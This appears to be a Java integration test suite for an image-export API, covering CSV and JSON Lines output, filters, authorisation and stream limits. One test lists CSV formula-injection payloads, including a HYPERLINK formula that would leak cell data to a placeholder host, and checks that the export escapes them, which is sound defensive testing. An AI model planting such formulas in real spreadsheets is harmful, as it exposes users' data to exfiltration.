package io.tuwen.result.endpoint;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.tuwen.contract.key.ImageKey;
import io.tuwen.contract.key.Owner;
import io.tuwen.contract.session.Revocations;
import io.tuwen.contract.session.Session;
import io.tuwen.contract.session.SessionTokens;
import io.tuwen.contract.testing.BackendsResource;
import io.tuwen.result.index.IndexResource;
import io.tuwen.result.index.Projection;
import io.tuwen.result.index.TestIndex;
import io.vertx.core.json.JsonObject;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@TestProfile(ListsTest.WithSessions.class)
@QuarkusTestResource(BackendsResource.class)
@WithTestResource(IndexResource.class)
class ExportsTest {
  /** More than the buffers of all sockets in between hold. */
  private static final int LARGE = 300;

  /** Who has that much. */
  private static final Owner HOARDER = person();

  private static final String LONG_TEXT = "增".repeat(20_000);

  @TestHTTPResource private URI origin;
  @Inject private SessionTokens tokens;
  @Inject private Revocations revocations;
  @Inject private Projection projection;
  private IndexedImages images;
  private final Owner alice = person();
  private final Owner bob = person();
  private final HttpClient http =
      HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  @BeforeEach
  void connect() {
    images = new IndexedImages(projection);
    // The first version of the index is being made when the service starts.
    await().until(() -> export(alice, "?format=csv").statusCode() == 200);
  }

  private static Owner person() {
    return new Owner("u-" + UUID.randomUUID().toString().replace("-", ""));
  }

  private HttpRequest asking(Session session, String query) {
    return HttpRequest.newBuilder(origin.resolve("/v1/images/export" + query))
        .header("Authorization", "Bearer " + tokens.write(session))
        .timeout(Duration.ofMinutes(1))
        .build();
  }

  private HttpResponse<String> export(Owner owner, String query) throws Exception {
    var session = tokens.begin(owner, "wechat", "shop");
    return http.send(asking(session, query), BodyHandlers.ofString());
  }

  private HttpResponse<InputStream> begin(Owner owner) {
    return begin(tokens.begin(owner, "wechat", "shop"));
  }

  private HttpResponse<InputStream> begin(Session session) {
    // A client that has gone just now may still have its place.
    return await()
        .until(
            () -> http.send(asking(session, "?format=jsonl"), BodyHandlers.ofInputStream()),
            it -> it.statusCode() == 200);
  }

  /** By RFC 4180, as every reader of such a file does it. */
  private static List<List<String>> rows(String csv) {
    var rows = new ArrayList<List<String>>();
    var row = new ArrayList<String>();
    var field = new StringBuilder();
    var isQuoted = false;
    for (int i = 0; i < csv.length(); i++) {
      var character = csv.charAt(i);
      if (isQuoted && character == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        field.append('"');
        i++;
      } else if (character == '"') {
        isQuoted = !isQuoted;
      } else if (!isQuoted && (character == ',' || character == '\n')) {
        row.add(field.toString());
        field.setLength(0);
        if (character == '\n') {
          rows.add(List.copyOf(row));
          row.clear();
        }
      } else if (isQuoted || character != '\r') {
        field.append(character);
      }
    }
    assertThat(field).isEmpty();
    return rows;
  }

  private static List<String> lines(HttpResponse<String> answer) {
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    return answer.body().lines().toList();
  }

  @Test
  void all_of_ones_own_images_come_as_a_table_newest_first() throws Exception {
    var texts = IntStream.range(0, 123).mapToObj(it -> "发票 %d, \"a\"\n第二行".formatted(it)).toList();
    var own = new ArrayList<>(images.add(alice, texts));
    images.add(bob, List.of("机密"));
    Collections.reverse(own);

    var answer = export(alice, "?format=csv");

    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("Content-Type")).hasValue("text/csv;charset=UTF-8");
    assertThat(answer.headers().firstValue("Content-Disposition"))
        .hasValue("attachment; filename=\"images.csv\"");
    assertThat(answer.headers().firstValue("Cache-Control")).hasValue("private, no-store");
    assertThat(answer.body()).startsWith("\ufeffid,uploadedAt,").doesNotContain("机密");
    var rows = rows(answer.body());
    assertThat(rows).hasSize(124).allMatch(it -> it.size() == 8);
    var table = rows.subList(1, rows.size());
    assertThat(table.stream().map(it -> it.get(0)).toList())
        .isEqualTo(own.stream().map(it -> it.id().value()).toList());
    assertThat(table.get(0).subList(2, 8))
        .containsExactly("7", "image/jpeg", "completed", "embedded/1", "", "发票 122, \"a\"\n第二行");
    assertThat(Instant.parse(table.get(0).get(1))).isBefore(Instant.now().plusSeconds(60));
  }

  @Test
  void as_lines_of_json_it_says_the_same() throws Exception {
    var own = images.add(alice, List.of("one\nline", "=1+1 \u2028"));

    var lines = lines(export(alice, "?format=jsonl"));

    assertThat(lines).hasSize(2);
    var newest = new JsonObject(lines.get(0));
    assertThat(newest.getString("id")).isEqualTo(own.get(1).id().value());
    assertThat(newest.getString("text")).isEqualTo("=1+1 \u2028");
    assertThat(newest.getString("status")).isEqualTo("completed");
    assertThat(newest.containsKey("code")).isFalse();
  }

  @Test
  void no_field_of_a_table_is_a_formula() throws Exception {
    var formulas =
        List.of(
            "=1+1",
            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(1)",
            "＝1+1",
            "＋1",
            " =1",
            "\t=1",
            "\r=1",
            "\n=1",
            "\u00a0=1",
            "\u200b=1",
            "\ufeff=1",
            "\u3000=1",
            "﹢1",
            "\u2212" + "1+1");
    images.add(alice, formulas);

    var texts =
        rows(export(alice, "?format=csv").body()).stream().skip(1).map(it -> it.get(7)).toList();

    assertThat(texts).hasSize(formulas.size()).allMatch(it -> it.startsWith("'"));
    assertThat(texts.stream().map(it -> it.substring(1)))
        .containsExactlyInAnyOrderElementsOf(formulas);
  }

  @Test
  void what_is_no_formula_is_as_it_was() throws Exception {
    var texts = List.of("1-1", "a=b", "'=1", "发票", "12.50", "￥12");
    images.add(alice, texts);

    assertThat(rows(export(alice, "?format=csv").body()).stream().skip(1).map(it -> it.get(7)))
        .containsExactlyInAnyOrderElementsOf(texts);
  }

  @Test
  void an_export_has_what_a_list_with_the_same_filters_has() throws Exception {
    var texts = IntStream.range(0, 130).mapToObj(it -> it % 2 == 0 ? "发票" : "运单").toList();
    var own = images.add(alice, texts);
    var expected =
        IntStream.range(0, 130)
            .filter(it -> it % 2 == 0)
            .mapToObj(own::get)
            .map(ImageKey::id)
            .map(it -> it.value())
            .toList();

    var found =
        lines(
            export(
                alice,
                "?format=jsonl&status=completed&hasText=true&q="
                    + URLEncoder.encode("发票", StandardCharsets.UTF_8)));

    assertThat(found.stream().map(it -> new JsonObject(it).getString("id")))
        .containsExactlyInAnyOrderElementsOf(expected);
    assertThat(lines(export(alice, "?format=jsonl&status=failed"))).isEmpty();
    assertThat(lines(export(alice, "?format=jsonl&from=2100-01-01T00:00:00Z"))).isEmpty();
  }

  @Test
  void an_owner_without_images_gets_a_table_without_rows() throws Exception {
    assertThat(rows(export(bob, "?format=csv").body())).hasSize(1);
    assertThat(export(bob, "?format=jsonl").body()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "?format=",
        "?format=xlsx",
        "?format=csv&format=csv",
        "?format=csv&cursor=x",
        "?format=csv&limit=1",
        "?format=csv&owner=u-1",
        "?format=csv&status=done",
        "?format=csv&q=-a"
      })
  void what_cannot_be_understood_is_refused(String query) throws Exception {
    var answer = export(alice, query);

    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(answer.body()).contains("\"malformed_request\"");
  }

  @Test
  void guests_have_no_export() throws Exception {
    var request = HttpRequest.newBuilder(origin.resolve("/v1/images/export?format=csv")).build();

    assertThat(http.send(request, BodyHandlers.ofString()).statusCode()).isEqualTo(401);
  }

  @Test
  void a_client_that_goes_gives_its_place_back() throws Exception {
    // An order of an earlier test may still be carried out, and takes away what is not in the log.
    await()
        .until(
            () -> {
              addLarge();
              try (var first = begin(HOARDER).body();
                  var second = begin(HOARDER).body()) {
                return first != second && export(HOARDER, "?format=csv").statusCode() == 429;
              }
            });

    await().until(() -> export(HOARDER, "?format=csv").statusCode() == 200);
  }

  @Test
  void one_caller_has_two_at_once_and_leaves_the_others_theirs() throws Exception {
    addLarge();
    images.add(bob, List.of("发票"));

    try (var first = begin(HOARDER).body();
        var second = begin(HOARDER).body()) {
      var third = export(HOARDER, "?format=csv");

      assertThat(third.statusCode()).isEqualTo(429);
      assertThat(third.body()).contains("\"too_many_streams\"");
      assertThat(third.headers().firstValue("Retry-After")).isPresent();
      assertThat(export(bob, "?format=csv").statusCode()).isEqualTo(200);
      assertThat(List.of(first.read(), second.read())).containsExactly((int) '{', (int) '{');
    }
  }

  @Test
  void an_export_is_cut_with_its_session() throws Exception {
    addLarge();
    var session = tokens.begin(HOARDER, "wechat", "shop");
    var answer = begin(session).body();
    assertThat(answer.read()).isEqualTo('{');

    revocations.take(Revocations.keyOf(session), Instant.now());

    assertThatThrownBy(answer::readAllBytes).isInstanceOf(IOException.class);
  }

  /** So it reads on only as the client does; else all of it would be on its way already. */
  @Test
  void an_export_that_cannot_go_on_is_cut_so_that_its_client_knows() throws Exception {
    addLarge();
    var answer = begin(HOARDER).body();
    assertThat(answer.read()).isEqualTo('{');

    TestIndex.server().kill();
    try {
      assertThatThrownBy(answer::readAllBytes).isInstanceOf(IOException.class);
      var next = export(alice, "?format=csv");
      assertThat(next.statusCode()).isEqualTo(503);
      assertThat(next.body()).contains("\"index_unavailable\"");
    } finally {
      TestIndex.server().start();
    }
    await().untilAsserted(() -> assertThat(export(bob, "?format=csv").statusCode()).isEqualTo(200));
  }

  private void addLarge() throws Exception {
    // A rebuild, which shares this index, keeps what is in the log alone.
    if (TestIndex.imagesOf(HOARDER).isEmpty()) {
      images.add(HOARDER, Collections.nCopies(LARGE, LONG_TEXT));
    }
  }
}
